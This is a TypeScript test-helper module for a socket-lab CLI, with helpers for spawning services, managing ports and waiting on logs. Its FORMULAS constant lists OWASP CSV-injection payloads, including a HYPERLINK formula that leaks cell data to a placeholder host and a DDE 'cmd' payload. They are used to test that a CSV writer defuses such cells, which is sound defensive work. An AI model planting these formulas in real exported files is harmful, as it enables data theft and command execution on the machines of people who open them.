import { type ChildProcess, fork, spawn, spawnSync } from 'node:child_process';
import dgram from 'node:dgram';
import net from 'node:net';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { onTestFinished } from 'vitest';
import { bindDatagram, closeSocket } from '../lib/listen.js';
import { type Logger, recordingLogger } from '../lib/logger.js';
import { projectRoot } from '../lib/paths.js';
import { PmuUdpServer, type PmuUdpServerOptions } from '../services/lab/pmu-udp-server.js';

export const CLI = path.join(projectRoot, 'dist', 'cli', 'main.js');

/** A real logger whose JSON lines the test can read. */
export function memoryLogger(service = 'test'): { logger: Logger; lines: () => Array<Record<string, unknown>> } {
  const { logger, records } = recordingLogger(service);
  return { logger, lines: records };
}

export interface TcpExchange {
  data: Buffer;
  reads: number;
}

/** Connects, sends `payload`, reads until the server closes. */
export function tcpExchange(port: number, payload: string | Buffer, host = '127.0.0.1'): Promise<TcpExchange> {
  return new Promise((resolve, reject) => {
    const socket = net.connect({ host, port }, () => socket.write(payload));
    const chunks: Buffer[] = [];
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => resolve({ data: Buffer.concat(chunks), reads: chunks.length }));
  });
}

export interface CliRun {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** SIGKILL to the process group `pid` leads (a child spawned detached): it and whatever it started that stayed in its group. */
export function killGroup(pid: number | undefined): void {
  if (pid === undefined) return;
  try {
    process.kill(-pid, 'SIGKILL');
  } catch {
    // the group is gone
  }
}

/**
 * Runs the built CLI as a user would, with the given environment additions, in a process group of
 * its own: on timeout the whole group is killed (a campus goes with it: its unshare dies with
 * socklab), and once it has ended, anything it left in its group too.
 */
export function runCli(args: string[], env: NodeJS.ProcessEnv = {}, timeoutMs = 20_000): Promise<CliRun> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [CLI, ...args], {
      env: { ...withoutSocklabVariables(process.env), ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
      detached: true,
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (chunk: Buffer) => (stdout += chunk.toString()));
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString()));
    const timer = setTimeout(() => killGroup(child.pid), timeoutMs);
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      killGroup(child.pid);
      resolve({ code, stdout, stderr });
    });
  });
}

/**
 * A bounded CPU hog, as a busy machine has: `processes` busy loops at the checker's own priority,
 * each ending by itself after `seconds` (and killed with the test before that).
 */
export function cpuHog(processes: number, seconds: number): void {
  for (let index = 0; index < processes; index += 1) {
    const hog = spawn(process.execPath, ['-e', `const end = Date.now() + ${seconds * 1000}; while (Date.now() < end);`], { stdio: 'ignore', detached: true });
    onTestFinished(() => killGroup(hog.pid));
  }
}

export function withoutSocklabVariables(env: NodeJS.ProcessEnv): NodeJS.ProcessEnv {
  return Object.fromEntries(Object.entries(env).filter(([name]) => !name.startsWith('SOCKLAB_')));
}

/** Registers `close` to run when the test ends, on the line after the resource is made. */
export function closeAfter<T extends { close(): Promise<void> }>(resource: T): T {
  onTestFinished(() => resource.close());
  return resource;
}

/** The PMU servers' settings the tests share: a fixed n of 5, short timeouts, room for every test's connections. */
export function pmuTestOptions(floodText: Buffer) {
  return {
    messagesMin: 5,
    messagesMax: 5,
    firstMessageNumber: 1,
    frames: 'binary' as const,
    maxIntervalSeconds: 10,
    maxCommandBytes: 64,
    idleTimeoutMs: 2000,
    floodText,
    random: Math.random,
    commandGapMs: 10,
    lingerMs: 500,
    drainMs: 100,
    maxPendingPerAddress: 1000,
    helloTimeoutMs: 2000,
    sliceBytes: 0,
  };
}

/** The RESET emulator on a port the system chose, closed when the test ends. */
export async function startUdpEmulator(overrides: Partial<PmuUdpServerOptions> = {}) {
  const { logger, lines } = memoryLogger('lab');
  const server = closeAfter(
    new PmuUdpServer(
      {
        host4: '127.0.0.1',
        host6: '::1',
        port: 0,
        dropProbability: 0,
        maxN: 1000,
        schedule: [],
        family: 'IPv4',
        offsetSeparator: '=',
        receiveBufferBytes: 1 << 20,
        random: Math.random,
        ...overrides,
      },
      logger,
    ),
  );
  return { server, port: (await server.listen()).port, lines };
}

/**
 * Resolves once `condition()` holds (checked every few ms), or fails the test after `timeoutMs`
 * naming `what`. It waits on real time (node:timers/promises), also under vitest's fake timers.
 */
export async function waitFor<T>(what: string, condition: () => T | undefined | false | null, timeoutMs = 10_000): Promise<T> {
  const deadline = performance.now() + timeoutMs;
  for (;;) {
    const value = condition();
    if (value) return value;
    if (performance.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await sleep(5);
  }
}

export interface SpawnedService {
  child: ChildProcess;
  /** The exit code, once the service has ended. */
  exited: Promise<number | null>;
  /** The JSON log lines written so far. */
  logLines: () => Array<Record<string, unknown>>;
  /** Everything written so far, stdout and stderr. */
  output: () => string;
  /** The endpoints of its "ready" line, e.g. "pmu-tcp tcp://127.0.0.1:40000". */
  endpoints: string[];
  /** Messages it sent pm2's way over IPC ("ready"); none when run through a wrapper. */
  ipc: unknown[];
}

/**
 * Starts `socklab ARGS` (a service, as pm2 runs it, with JSON logs) and resolves once it has logged
 * that it is ready; killed when the test ends. `wrapper` runs it through another command
 * (e.g. `unshare …`), which must exec node.
 */
export async function spawnService(args: string[], wrapper: string[] = []): Promise<SpawnedService> {
  const command = [process.execPath, CLI, ...args, '--log.format', 'json'];
  const child = wrapper.length > 0
    ? spawn(wrapper[0]!, [...wrapper.slice(1), ...command], { env: withoutSocklabVariables(process.env), stdio: ['ignore', 'pipe', 'pipe'], detached: true })
    : fork(CLI, command.slice(2), { env: withoutSocklabVariables(process.env), stdio: ['ignore', 'pipe', 'pipe', 'ipc'], detached: true });
  onTestFinished(() => killGroup(child.pid));
  let text = '';
  const ipc: unknown[] = [];
  child.on('message', (message) => ipc.push(message));
  child.stdout!.on('data', (chunk: Buffer) => (text += chunk.toString()));
  child.stderr!.on('data', (chunk: Buffer) => (text += chunk.toString()));
  const exited = new Promise<number | null>((resolve) => child.on('exit', resolve));
  const logLines = () =>
    text
      .split('\n')
      .filter((line) => line.startsWith('{'))
      .map((line) => JSON.parse(line) as Record<string, unknown>);
  let ended = false;
  void exited.then(() => (ended = true));
  const ready = await waitFor(`socklab ${args.join(' ')} to be ready`, () => {
    if (ended) throw new Error(`socklab ${args.join(' ')} ended before it was ready:\n${text}`);
    return logLines().find((line) => line.message === 'ready');
  });
  return { child, exited, logLines, output: () => text, endpoints: ready.endpoints as string[], ipc };
}

/** The port in an endpoint line: "… tcp://127.0.0.1:40000" or "… port 40000 …". */
export function portOf(endpoint: string): number {
  const match = /:(\d+)(?:\s|$)|\sport (\d+)/.exec(endpoint);
  if (!match) throw new Error(`no port in "${endpoint}"`);
  return Number(match[1] ?? match[2]);
}

/**
 * A UDP port on 127.0.0.1 and ::1 where sockets made here read and never answer: a RESET server
 * that stays silent, instead of a port assumed free. Closed when the test ends.
 */
export async function silentUdpPort(): Promise<number> {
  for (let attempt = 0; ; attempt += 1) {
    const v4 = dgram.createSocket('udp4');
    await bindDatagram(v4, { address: '127.0.0.1', port: 0 });
    const { port } = v4.address();
    const v6 = dgram.createSocket({ type: 'udp6', ipv6Only: true });
    try {
      await bindDatagram(v6, { address: '::1', port });
    } catch (error) {
      await closeSocket(v4);
      if (attempt < 5) continue; // ::1 had that port taken: try another
      throw error;
    }
    onTestFinished(() => Promise.all([closeSocket(v4), closeSocket(v6)]).then(() => undefined));
    return port;
  }
}

/**
 * A TCP port on 127.0.0.1 that refuses connections: a socket bound there that never listens
 * (held by a Python process, since Node binds TCP only to listen). Released when the test ends.
 */
export async function refusingTcpPort(): Promise<number> {
  const holder = spawn('/usr/bin/python3', ['-c', "import socket,sys; s=socket.socket(); s.bind(('127.0.0.1',0)); print(s.getsockname()[1], flush=True); sys.stdin.read()"], {
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  onTestFinished(() => {
    holder.kill('SIGKILL');
  });
  return new Promise((resolve, reject) => {
    holder.stdout!.once('data', (chunk: Buffer) => resolve(Number(chunk.toString().trim())));
    holder.once('exit', (code) => reject(new Error(`the port holder exited with ${code}`)));
  });
}

/** The formulas a TA's spreadsheet would run (OWASP's CSV injection list). */
export const FORMULAS = ['=HYPERLINK("http://x/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', "=2+5+cmd|' /C calc'!A1"];

/** Python's csv module reading `text` back: the rows as it sees them. */
export function pythonCsv(text: string): string[][] {
  const run = spawnSync('/usr/bin/python3', ['-c', 'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: text, encoding: 'utf8' });
  if (run.status !== 0) throw new Error(run.stderr);
  return JSON.parse(run.stdout) as string[][];
}

/** A cell as the writer defused it, back to its text: the `'` it added taken off. */
export const undefused = (cell: string) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell);
